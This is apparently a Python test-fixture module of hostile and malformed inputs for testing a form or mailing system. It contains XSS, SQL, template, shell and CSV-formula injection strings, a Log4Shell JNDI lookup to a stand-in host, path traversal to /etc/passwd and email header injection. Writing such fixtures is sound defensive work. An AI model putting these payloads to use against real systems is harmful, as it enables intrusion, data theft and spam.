"""Texts that have broken other people's forms, in our own collection."""

MARKUP = (
    "<script>window.hit=1;alert(1)</script>",
    '"><img src=x onerror="window.hit=2;alert(2)">',
    "'><svg/onload=window.hit=3>",
    "</textarea><script>window.hit=4</script>",
    "</pre></title></style><iframe srcdoc='<script>top.hit=5</script>'>",
    '" autofocus onfocus="window.hit=6" x="',
    "javascript:window.hit=7",
    "<!--<script>window.hit=8//-->",
    "&lt;b&gt; &amp;amp; &#60;script&#62; &nbsp;",
    "<a href='data:text/html,<script>opener.hit=9</script>' target=_top>x</a>",
    "]]><![CDATA[<x>]]>",
    "<style>*{display:none}</style>",
    '<form action="https://elsewhere.example"><button>Send</button></form>',
)
TEMPLATES = (
    "{{7*7}}",
    "{{ config.SECRET_KEY }}{% for x in ().__class__.__mro__ %}{% endfor %}",
    "{name} {salutation} {target} {postcode} {role}",
    "{0.__class__.__init__.__globals__}",
    "${7*7} #{7*7} <%= 7*7 %> @{7*7} [[7*7]]",
    "%(name)s %s %d %n %x",
    "{{{{name}}}} }}{{ } {",
    "{number} {title} {link}",
    "$(id) `id` ; id | id && id",
    "${jndi:ldap://elsewhere.example/a}",
    "-substitution- %recipient% *|MC:SUBJECT|* [%first_name%] <%asm_group_unsubscribe_raw_url%>",
)
DATABASE = (
    "Robert'); DROP TABLE letter;--",
    "' OR '1'='1' /*",
    '" UNION SELECT token_id FROM submission --',
    "\\'; SELECT pg_sleep(9); --",
    "100% _sure_ \\ \\\\ \\0 \\x00 \\u0000",
    '=HYPERLINK("https://elsewhere.example","x")',
    "+1+1|cmd'/c calc'!A0",
    "@SUM(1+1)*2",
    "null",
    "None",
    "undefined",
    "NaN",
    "-1e309",
    "0",
    "false",
    "[]",
    '{"a": 1}',
    "1;2,3",
)
ADDRESSING = (
    "Smith, John; Mary <x@y.example>",
    '"quoted" (comment) <a@b.example>,',
    "=?utf-8?q?encoded=0D=0ABcc:_x?=",
    "../../../../etc/passwd",
    "https://elsewhere.example/?a=b&c=d#e",
    "a%0d%0aBcc: x@y.example %00 %u0000 &#0; &#13;&#10;",
    "a+b & c=d",
)
WRITING = (
    "مرحبا بكم في المرفأ ١٢٣",
    "שלום 123 abc עולם",
    "Ж、。「」田中さんにあげて下さい",
    "Zalgo: Z̮̞̠͙͔ͅḀ̗̞͈̻̗Ḷ͙͎̯̹̞͓G̻O̭̗̮",
    "e\u0301 é \u212b Å ﬁ ǆ İ \u0131 ß ẞ",
    "👩‍👩‍👧‍👦 🏳️‍🌈 👍🏽 🇬🇧 \U0001f9ff",
    "\u202eevil\u202c \u2066isolated\u2069 \u200f\u200e\u061c",
    "zero\u200bwidth\u200c \u200djoined\u2060 \ufeffmark \u00adsoft",
    "\ufffd typed by a person",
    "\ufdd0\ufffe\uffff\U0001fffe\U0010ffff",
    "\ue000\U000f0000 private, \U000e0041\U000e007f tags",
    "﷽" * 20,
    "a\u0300" * 45,
    "x" * 99,
    "tab\there",
    "‘quotes’ “marks” — dashes … \u00a0\u202f\u3000 spaces",
    "ಠ_ಠ ┻━┻ ︵ ヽ(°□°ヽ) ̿ ̿",
)
SINGLE_LINES = MARKUP + TEMPLATES + DATABASE + ADDRESSING + WRITING

SEVERAL_LINES = (
    "one\ntwo\n\n\nthree",
    "one\r\ntwo\r\n\r\nthree",
    "a lone\rcarriage return",
    "\n\n leading and trailing \n\n",
    ".\r\n.\r\nQUIT\r\n.. dots",
    "Subject: x\r\nBcc: all@readers.example\r\n\r\n<html>",
    "From here\n>From there\n--\nsignature",
    "separator\u2028line\u2029paragraph",
    '--boundary\r\nContent-Disposition: form-data; name="email"\r\n\r\nx@y.example',
    "\t\tindented\n    code\n",
)
LINE_ENDS = (
    "Ana\r\nBcc: all@readers.example",
    "Ana\nBcc: all@readers.example",
    "Ana\rBcc: all@readers.example",
    "Ana\u2028Bcc: all@readers.example",
    "Ana\u2029Bcc: all@readers.example",
    "\nAna",
    "Ana\n",
)
CONTROLS = (
    "nul\x00here",
    "\x00",
    "bell\x07",
    "back\x08space",
    "escape\x1b[31mred",
    "form\x0cfeed and \x0bvertical",
    "delete\x7f",
    "next line\x85 and csi\x9b31m",
    "\x01\x02\x03\x1f",
)
# As urlencoded, since no Unicode text has them.
NO_TEXT = (
    b"%FF%FE",
    b"a%80b",
    b"%C0%AFoverlong",
    b"%ED%A0%80surrogate",
    b"%ED%A0%BD%ED%B8%80pair",
    b"%F4%90%80%80beyond",
    b"%E2%82truncated",
    b"\xff\xferaw",
    b"cut \xe2\x82",
)
MEGABYTES = ("x" * 2**20, "😀" * 2**18, "<b>" * 350_000, "\r\n" * 2**19, "{{" * 2**19)


def is_no_name(text: str) -> bool:
    """Tell whether a name is refused: it reads as an address or a link, or turns the direction."""
    return any(mark in text for mark in ("@", "<", ">", "://")) or is_no_subject(text)


def is_no_subject(text: str) -> bool:
    """Tell whether a subject is refused: it turns the direction of what follows."""
    return any("\u202a" <= c <= "\u202e" or "\u2066" <= c <= "\u2069" for c in text)


# Each holds one address, which is read through what stands around it.
HOLDS_ADDRESS = (
    "Smith, John; Mary <x@y.example>",
    '"quoted" (comment) <a@b.example>,',
)
